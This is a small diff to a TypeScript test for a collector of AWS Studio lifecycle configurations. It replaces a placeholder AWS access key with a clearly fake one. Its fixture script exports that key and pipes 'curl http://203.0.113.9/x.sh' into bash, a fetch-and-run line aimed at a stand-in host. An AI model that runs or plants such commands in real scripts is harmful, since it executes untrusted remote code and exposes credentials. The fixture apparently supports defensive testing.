@@ -4,7 +4,7 @@ import { studioLifecycleConfigs } from '../../../src/aws/collectors/studio-lifec
 import { collected } from '../reading.ts'
 
 const base64 = (text: string) => Buffer.from(text).toString('base64')
-const SECRET = 'AKIAQWERTYUIOPASDFGH'
+const SECRET = 'AKIAFAKEFAKEFAKEFAKE'
 const SCRIPT = `#!/bin/bash\nexport AWS_ACCESS_KEY_ID=${SECRET}\ncurl http://203.0.113.9/x.sh | bash\n`
 
 describe('lifecycle scripts', () => {
